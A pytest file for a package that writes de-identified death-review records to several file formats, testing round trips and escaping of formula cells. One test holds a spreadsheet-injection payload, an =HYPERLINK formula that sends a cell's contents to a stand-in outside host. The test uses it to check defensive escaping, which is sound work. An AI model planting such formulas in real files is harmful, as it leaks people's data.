"""write_reviews: every format reads back to the same valid rows."""
from __future__ import annotations

import pandas as pd
import pytest

from leder_insights.errors import InputError
from leder_insights.io import read_reviews, write_reviews


@pytest.fixture()
def loaded(tmp_path):
    src = tmp_path / "src.csv"
    src.write_text("review_id,icb,death_date,age_at_death,care_grade,autistic,learning,Extra\n"
                   "R1,North,01/02/2024,45,3,yes,Zoë’s £5 – fine,x\n"
                   "R2,South,,,,,,\n", encoding="utf-8")
    return read_reviews(src)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl", ".parquet"])
def test_write_reviews_round_trip(tmp_path, loaded, suffix):
    path = write_reviews(loaded.valid, tmp_path / f"out{suffix}")
    back = read_reviews(path)
    assert "_row" in back.valid.columns and back.n_rows == 2
    cols = ["review_id", "icb", "death_date", "age_at_death", "care_grade", "autistic", "learning"]
    got, want = back.valid[cols], loaded.valid[cols]
    assert got.loc[0].tolist() == want.loc[0].tolist()
    assert got.loc[0, "learning"] == "Zoë’s £5 – fine"
    assert pd.isna(got.loc[1, "care_grade"]) and pd.isna(got.loc[1, "autistic"])


def test_write_reviews_unknown_suffix(tmp_path, loaded):
    with pytest.raises(InputError, match=r"\[E102\]"):
        write_reviews(loaded.valid, tmp_path / "out.txt")


def test_write_reviews_csv_and_xlsx_never_hold_a_formula(tmp_path):
    """faults F13: cells starting '=' (a review_id, a learning text with =HYPERLINK) were written
    as they were, so opening the de-identified file in Excel ran them."""
    import csv

    import openpyxl
    import pandas as pd

    from leder_insights.io import write_reviews

    df = pd.DataFrame({"review_id": ["=1+1", "R2"],
                       "learning": ['=HYPERLINK("http://example.invalid/?"&A2,"Read more")',
                                    "- a listed point"]})
    rows = list(csv.reader(open(write_reviews(df, tmp_path / "o.csv"), newline="")))
    assert rows[1][0] == "'=1+1" and rows[1][1].startswith("'=HYPERLINK")
    assert rows[2] == ["R2", "- a listed point"]
    ws = openpyxl.load_workbook(write_reviews(df, tmp_path / "o.xlsx")).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert df.loc[0, "review_id"] == "=1+1"  # the caller's frame is not changed
    back = pd.read_parquet(write_reviews(df, tmp_path / "o.parquet"))
    assert back.loc[0, "review_id"] == "=1+1"  # not a spreadsheet format: kept as it is
